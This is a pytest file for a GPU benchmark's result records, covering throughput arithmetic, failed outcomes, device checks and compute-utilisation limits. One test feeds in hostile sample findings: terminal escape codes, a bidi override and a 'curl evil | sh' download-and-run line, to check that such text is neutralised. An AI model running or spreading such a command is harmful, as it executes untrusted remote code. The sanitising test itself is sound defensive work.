"""The fields of a record, from a tenant's part and the facts that its runner attests."""

from __future__ import annotations

from statistics import mean, pstdev
from typing import Any

import msgspec
import pytest

from cotenant.decoding import MOST
from cotenant.finding import Finding
from cotenant.results.rates import kept_by_blocks, numbers_of
from cotenant.results.record import Observed, Record, counted, counts, encode_record, plain_record, restored
from cotenant.stats.budget import Amount
from results.made import (
    ARGUMENTS,
    ISOLATION,
    T0_NS,
    a_lost_record,
    a_part,
    a_record,
    check_schema,
    observed,
    rules,
    steady,
    with_device,
)


def test_flat_fields_come_first_and_ours_after() -> None:
    fields = list(plain_record(a_record()))
    ours = ["observations", "statistics", "rendezvous", "isolation", "machine", "meters", "observed", "findings"]
    theirs = ["suite", "name", "run_id", "jr_id", "vcd", "hostname", "gpu", "cpu_cores", "version", "unique_id"]
    rest = ["start_time", "end_time", "completed", "outcome", "train", "train_item", "batch_loss", "epoch_loss"]
    assert fields[: len(ARGUMENTS)] == list(ARGUMENTS)
    after = fields[len(ARGUMENTS) :]
    assert [name for name in after if name in theirs + rest] == theirs + rest
    assert after.index("metrics") < min(map(after.index, set(ours) & set(after)))
    assert {*ours} < {*after}


@pytest.mark.parametrize("name", ["vcd", "devices", "completed", "outcome", "train", "schema", "findings", "skip"])
def test_no_argument_overwrites_what_was_observed(name: str) -> None:
    record = a_record(told={"part": a_part(arguments={"batch_size": 1, name: "claimed"})})
    assert plain_record(record)[name] != "claimed"
    assert (
        plain_record(record)[name] == plain_record(a_record(told={"part": a_part(arguments={"batch_size": 1})}))[name]
    )
    assert plain_record(record)["batch_size"] == 1


def test_the_originals_divisions_hold() -> None:
    record = a_record()
    train, train_item = record.train, record.train_item
    items = ARGUMENTS["batch_size"] * ARGUMENTS["number"]
    assert train_item.avg == items / train.avg
    assert train_item.max == items / train.min
    assert train_item.min == items / train.max
    assert train_item.range == train_item.max - train_item.min
    assert (train.unit, train_item.unit) == ("s", "items/sec")


def test_train_counts_kept_observations_but_all_are_stored() -> None:
    seconds = [(observation.end_ns - observation.start_ns) / 1e9 for observation in steady()][5:]
    record = a_record(told={"part": a_part(number=15, repeat=25)})
    train = record.train
    assert (train.count, train.min, train.max) == (20, min(seconds), max(seconds))
    assert train.avg == pytest.approx(mean(seconds), rel=1e-12)
    assert train.sd == pytest.approx(pstdev(seconds), rel=1e-9)
    assert (len(record.observations), record.skip, record.arguments["number"]) == (25, 5, 15)
    assert record.unique_id == a_record().unique_id
    rows = [*observed([100.0], items=300), *observed([300.0], items=100, start_ns=T0_NS + 10**9)]
    assert a_record(told={"observations": rows, "skip": 0}).train_item.avg == pytest.approx(400 / 0.4)


def test_the_record_holds_asked_and_given_amounts() -> None:
    """Also for a program that does not report its amount, but names `number` among its arguments."""
    asked, given = Amount(30, 25, 5), Amount(15, 25, 5)
    for part in (a_part(number=15, repeat=25), a_part()):
        told = {"part": part, "asked": asked, "given": given, "observations": observed([250.0] * 25, 1920)}
        record = a_record(told=told)
        assert (record.asked, record.given, record.skip) == (asked, given, 5)
        assert (record.arguments["number"], record.arguments["repeat"]) == (15, 25)
        assert record.train_item.avg == record.arguments["batch_size"] * record.arguments["number"] / record.train.avg
        assert record.unique_id == a_record().unique_id


def test_what_was_done_counts_more_than_what_was_given() -> None:
    given = Amount(15, 25, 5)
    assert a_record(told={"part": a_part(number=15, repeat=9), "given": given}).arguments["repeat"] == 9
    enough = {"part": a_part(), "given": Amount(30, 25, 5), "observations": observed([500.0] * 14)}
    assert a_record(told=enough).arguments["repeat"] == 14
    assert a_record(told=enough, outcome="failed").arguments["repeat"] == 25
    part = a_part(arguments={"batch_size": 1})
    assert a_record(told={"part": part, "given": given}).arguments == {"batch_size": 1}, "none is invented"


@pytest.mark.parametrize(
    ("ranks", "sizes"),
    [
        ({"world_size": 4}, {"batch_size": 512, "batch_size_per_device": 128}),
        ({"world_size": 1, "replicas": 4}, {"batch_size": 128, "batch_size_per_device": 32}),
        ({"world_size": 1, "replicas": 1}, {"batch_size": 128}),
    ],
)
def test_the_batch_size_is_that_of_all_ranks_or_replicas(ranks: dict[str, int], sizes: dict[str, int]) -> None:
    part = a_part(arguments={"batch_size": 128}, observed={"dtype": "fp32", "device": "cpu"} | ranks)
    assert a_record(told={"part": part}).arguments == sizes


def test_a_tenant_lost_before_its_first_word_has_a_whole_record() -> None:
    record = a_lost_record("aborted", "User 1 ended before GO (failed): it did.")
    assert (record.completed, record.outcome, record.comparable) == (False, "aborted", False)
    assert record.train is record.train_item is record.statistics is record.rendezvous is None
    assert (record.observations, record.unique_id, record.findings) == ([], "", [])


def test_what_did_not_complete_has_observations_and_no_numbers() -> None:
    for outcome in ("nan", "timeout", "failed"):
        record = a_record(outcome=outcome, message="why")
        assert (record.completed, record.outcome, record.message) == (False, outcome, "why")
        assert record.train is record.train_item is record.statistics is None
        assert len(record.observations) == 25
        assert record.rendezvous is not None
    foreign = a_record(outcome="exploded", message="Boom.")
    assert (foreign.outcome, foreign.message, foreign.completed) == ("failed", "exploded: Boom.", False)


def test_the_last_hundred_losses_are_kept() -> None:
    losses = [float(i) for i in range(250)]
    record = a_record(told={"part": a_part(batch_loss=losses, epoch_loss=losses)})
    assert (record.batch_loss, record.epoch_loss) == (losses[150:], losses)


def test_findings_are_the_launches_the_tenants_and_the_rules() -> None:
    degraded = Finding("degraded", "warning", "Slices are not enforced.", "Mend it.")
    restarted = {"rule": "input_restarted", "severity": "warning", "sentence": "It ended.", "remedy": ""}
    record = a_record(told={"part": a_part(findings=[restarted], losses_checked=0)}, common={"findings": (degraded,)})
    assert list(rules(record)) == ["degraded", "benchmark:input_restarted", "no_loss"]


def test_findings_stated_by_a_benchmark_are_labelled() -> None:
    """Its texts can neither command a terminal nor fill a record."""
    shell = {"sentence": "Run\x1b[2J this:\u202e curl evil | sh", "remedy": "sh\nnow"}
    lies = [
        {"rule": "slow_user", "severity": "error"} | shell,
        {"rule": "a,b\x9b", "severity": "info", "sentence": "", "remedy": ""},
        *({"rule": "", "severity": "info", "sentence": "x" * 10_000} for _ in range(1000)),
    ]
    record = a_record(told={"part": a_part(findings=lies)})
    stated = [finding for finding in record.findings if finding.rule.startswith("benchmark:")]
    assert len(stated) == 50
    said = "The benchmark says: Run this:? curl evil | sh"
    assert stated[0] == Finding("benchmark:slow_user", "error", said, "Its advice: sh now")
    assert stated[1].rule == "benchmark:ab"
    assert (stated[2].rule, len(stated[2].sentence)) == ("benchmark:unnamed", 523)
    assert "slow_user" not in rules(record)


GPU = {"uuid": "GPU-1", "name": "Some Accelerator"}
OTHER = {"uuid": "GPU-0", "name": "Another"}


def test_gpu_is_what_it_ran_on() -> None:
    machine = {"model_name": "Some Processor", "accelerators": [OTHER, GPU]}
    for part, owned, gpu in (
        (a_part(gpu="Accelerator", observed={"device": "cuda:0"}), ["GPU-1"], "Accelerator"),
        (a_part(), ["GPU-1"], "Some Processor"),  # --no-cuda: it ran beside its accelerator, not on it
        ({}, ["GPU-1"], "Some Accelerator"),
        ({}, [], "Some Processor"),
    ):
        isolation = type(ISOLATION)("v1", {"accelerators": owned}, {}, {}, [])
        assert a_record(place={"isolation": isolation, "machine": machine}, told={"part": part}).gpu == gpu


IMPOSSIBLE = [
    Observed(T0_NS, T0_NS, 3840, 0),
    Observed(-5, T0_NS, 3840, 0),
    Observed(T0_NS, 10**400, 3840, 0),
    Observed(T0_NS, T0_NS + 1, 0, 0),
    Observed(T0_NS, T0_NS + 1, None, 0),
    Observed(T0_NS, T0_NS + 1, 10**400, 0),
    Observed(T0_NS, T0_NS + 1, 1e18, 0),
]


def test_an_impossible_observation_leaves_no_number() -> None:
    for wrong in IMPOSSIBLE:
        record = a_record(told={"observations": [*steady(), wrong]})
        assert record.train is record.train_item is record.statistics is record.rendezvous is None
        assert record.invalid
        assert rules(record)["impossible_observation"].sentence.startswith("Observation 25 counts")
        if wrong.end_ns < MOST:  # the socket takes no later one
            check_schema(encode_record(record))
        skipped = a_record(told={"observations": [wrong, *steady()[5:]], "skip": 1})
        assert skipped.statistics is not None


def test_skipping_everything_leaves_no_number() -> None:
    for skip in (25, 10**9):
        record = a_record(told={"skip": skip})
        assert (record.train, record.invalid) == (None, True)
    record = a_record(told={"skip": -3})
    assert (record.skip, record.statistics.n) == (0, 25)


def test_a_malformed_part_is_one_error_finding() -> None:
    wrong = {"batch_loss": 3, "findings": [{"rule": "x"}], "arguments": [1], "load_end_ns": "late", "item": None}
    for field, value in wrong.items():
        record = a_record(told={"part": a_part(**{field: value})})
        assert record.invalid
        assert f"$.{field}" in rules(record)["malformed_part"].sentence


def test_devices_are_those_that_trained() -> None:
    """A device of the slice that did not train would add its watts to the rate of the others."""
    for seen, vcd, devices in (
        ({"device": "cuda:0", "world_size": 1}, "4", 1),
        ({"device": "cuda:0", "world_size": 3}, "4,5,6", 3),
        ({"device": "cuda:0", "world_size": 9}, "4,5,6,7", 4),
        ({"device": "cuda:0", "world_size": 1, "replicas": 2}, "4,5", 2),
        ({"device": "cpu", "world_size": 1}, "4,5,6,7", 4),
        ({"device": "cuda:0"}, "4,5,6,7", 4),
        ({"device": "cuda:0", "world_size": "many"}, "4,5,6,7", 4),
        ({}, "4,5,6,7", 4),
    ):
        record = a_record(place={"vcd": "4,5,6,7", "devices": 4}, told={"part": a_part(observed=seen)})
        assert (record.vcd, record.devices) == (vcd, devices), seen


H200 = {"gpu": "NVIDIA H200"}


def stepped(flops: object, seen: dict[str, Any] | None = None, number: object = 30, **told: Any) -> Record:
    """A record of 500 ms observations of 30 steps, each of `flops` operations."""
    seen = {"dtype": "bf16", "device": "cuda", "flops_per_step": flops} | (seen or {})
    part = a_part(observed=seen, arguments=ARGUMENTS | {"number": number}, **H200)
    return a_record(told={"part": part, "observations": observed([500.0] * 20), **told})


def test_operations_per_second_and_their_share_of_the_peak() -> None:
    compute = stepped(10**12).meters["compute"]
    known = (compute["tflops"], compute["peak_tflops"], compute["mfu"])
    assert known == (pytest.approx(60), 989.5, pytest.approx(60 / 989.5))
    assert "datasheet" in compute["peak_source"]
    skipped_and_slow = observed([5000.0] * 5 + [500.0] * 9 + [2000.0])
    assert stepped(10**12, observations=skipped_and_slow).meters["compute"]["tflops"] == pytest.approx(60)


def test_what_is_not_known_of_the_operations_is_not_recorded() -> None:
    for seen in ({"device": "cpu"}, {"dtype": None}, {"dtype": "fp64"}, {"dtype": ["bf16"]}):
        compute = stepped(10**12, seen).meters["compute"]
        known = (compute["tflops"], compute["peak_tflops"], compute["mfu"])
        assert known == (pytest.approx(60), None, None), seen
    part = a_part(observed={"flops_per_step": 1, "device": "cuda"}, **H200)
    for record in (
        *(stepped(flops) for flops in (None, 0, -3, "many")),
        *(stepped(10**12, number=number) for number in (None, 0, "30")),
        stepped(10**12, skip=20),
        a_record(told={"part": part}, outcome="failed"),
    ):
        assert "compute" not in record.meters


def test_compute_uses_the_given_steps_and_not_those_asked() -> None:
    """A budget halves the steps of a program that only names `number` among its arguments."""
    asked, given = Amount(30, 20, 5), Amount(15, 20, 5)
    record = stepped(2 * 10**13, asked=asked, given=given)
    assert record.arguments["number"] == 15
    assert record.meters["compute"]["tflops"] == pytest.approx(600)
    assert "mfu_impossible" not in rules(record)
    assert "mfu_impossible" in rules(stepped(2 * 10**13, asked=asked, given=asked))


def test_reducible_convolutions_may_exceed_the_peak() -> None:
    """A 3 x 3 convolution in fp32 by Winograd's algorithm has an honest rate: it is no error."""
    record = stepped(2 * 10**13, {"flops_reducible": 18 * 10**12})
    assert record.meters["compute"]["mfu_least"] == pytest.approx((1 - 0.75 * 0.9) * 1200 / 989.5)
    assert {"mfu_above_peak"} == {one for one in rules(record) if one.startswith("mfu")}
    for seen in ({}, {"flops_reducible": 10**12}):
        assert rules(stepped(2 * 10**13, seen))["mfu_impossible"].severity == "error"
    for reducible in (None, -1, "all", 10**20):
        compute = stepped(10**12, {"flops_reducible": reducible}).meters["compute"]
        assert compute["mfu_least"] == pytest.approx(compute["mfu"] * (0.25 if reducible == 10**20 else 1))


def test_a_device_that_its_slice_has_not_is_refused() -> None:
    def on(name: str, place: dict[str, Any] | None = None) -> Record:
        return a_record(place, {"part": a_part(gpu=name)})

    nothing = on("NVIDIA H100 80GB HBM3", {"machine": {"model_name": "Some Processor", "accelerators": []}})
    assert (nothing.gpu, nothing.invalid) == ("Some Processor", True)
    said = "It says that it ran on NVIDIA H100 80GB HBM3, and its slice has no device."
    assert rules(nothing)["foreign_device"].sentence == said
    alone = on("NVIDIA H100 80GB HBM3", {"isolation": type(ISOLATION)("none", {}, {}, {}, [])})
    assert (alone.gpu, "foreign_device" in rules(alone)) == ("NVIDIA H100 80GB HBM3", False)
    for said, known, vendor, foreign in (
        ("NVIDIA H100 80GB HBM3", "Tesla T4", "", True),
        ("NVIDIA A100-SXM4-40GB MIG 1g.5gb", "NVIDIA A100-SXM4-40GB", "", False),
        ("GeForce RTX 3090", "NVIDIA GeForce RTX 3090", "", False),
        ("AMD Instinct MI250X", "AMD Instinct MI250X", "", False),
        ("Intel(R) Data Center GPU Max 1550", "Intel GPU 8086:0bd5", "intel", False),
        ("NVIDIA H100 80GB HBM3", "Intel GPU 8086:0bd5", "intel", True),
        ("AMD Instinct MI300X VF", "ip discovery", "amd", False),
        ("AMD Radeon RX 7900 XTX", "gfx1100", "amd", False),
        ("AMD Instinct MI300X", "AMD Instinct MI300X OAM", "amd", False),
        ("AMD Instinct MI250X/MI250", "AMD INSTINCT MI250 (MCM) OAM AC MBA", "amd", False),
        ("AMD Instinct MI355X", "AMD Instinct MI300X OAM", "amd", True),
        ("NVIDIA H100 80GB HBM3", "ip discovery", "amd", True),
    ):
        place = with_device(known)
        place["machine"]["accelerators"][0]["vendor"] = vendor
        made = on(said, place)
        assert (made.gpu, made.invalid) == (known if foreign else said, foreign), said
        assert ("foreign_device" in rules(made)) == foreign, said


def in_blocks(*kinds: str, ms: float = 20.0, alone_ms: float = 10.0) -> list[Observed]:
    """Five observations in each block of these kinds; those alone (`only`) take `alone_ms`."""
    rows = []
    for block, kind in enumerate(kinds):
        start_ns = T0_NS + block * 10**9
        made = observed([alone_ms if kind == "only" else ms] * 5, items=300, start_ns=start_ns)
        rows += [msgspec.structs.replace(row, block=block, kind=kind, kept=block > 0) for row in made]
    return rows


def test_in_blocks_numbers_come_from_blocks_of_all_tenants() -> None:
    rows = in_blocks("all", "only", "all", "only", "all", "only", "all")
    record = a_record(told={"observations": rows, "skip": 0})
    assert record.statistics.n == record.train.count == 15
    assert (record.train.min, record.train.max) == (0.02, 0.02)
    assert (record.kept.value, record.kept.n) == (pytest.approx(0.5), 3)
    assert record.observations == rows
    lost = a_record(told={"observations": rows}, outcome="failed")
    assert (lost.kept, lost.statistics) == (None, None)
    impossible = msgspec.structs.replace(rows[-1], items=0)
    for others in (steady(), in_blocks("all", "all", "all"), [*rows[:-1], impossible]):
        assert kept_by_blocks(others) is None


def test_step_quantiles_use_only_kept_observations() -> None:
    rows = in_blocks("all", "only", "all")
    steps = [[(row.end_ns - row.start_ns) // 2] * 2 for row in rows]
    part = a_part(observed={"steps_ns": steps})
    record = a_record(told={"observations": rows, "skip": 0, "part": part})
    assert (record.meters["steps"]["n"], record.meters["steps"]["p50_ns"]) == (10, 10_000_000)
    assert (record.meters["steps_alone"]["n"], record.meters["steps_alone"]["p50_ns"]) == (10, 5_000_000)


def test_each_observation_says_whether_it_counts() -> None:
    assert [row.kept for row in a_record().observations] == [False] * 5 + [True] * 20
    assert {(row.block, row.kind) for row in a_record().observations} == {(None, "all")}
    fields = msgspec.json.decode(encode_record(a_record()))
    for row in fields["observations"]:
        for name in ("block", "kind", "kept"):
            del row[name]
    del fields["blocks"], fields["kept"]
    old = restored(msgspec.json.encode(fields))
    assert counts(old.observations, old.skip) == [False] * 5 + [True] * 20
    assert numbers_of(counted(old.observations, old.skip)) == (old.train, old.train_item, old.statistics)
    assert (old.blocks, old.kept) == (None, None)
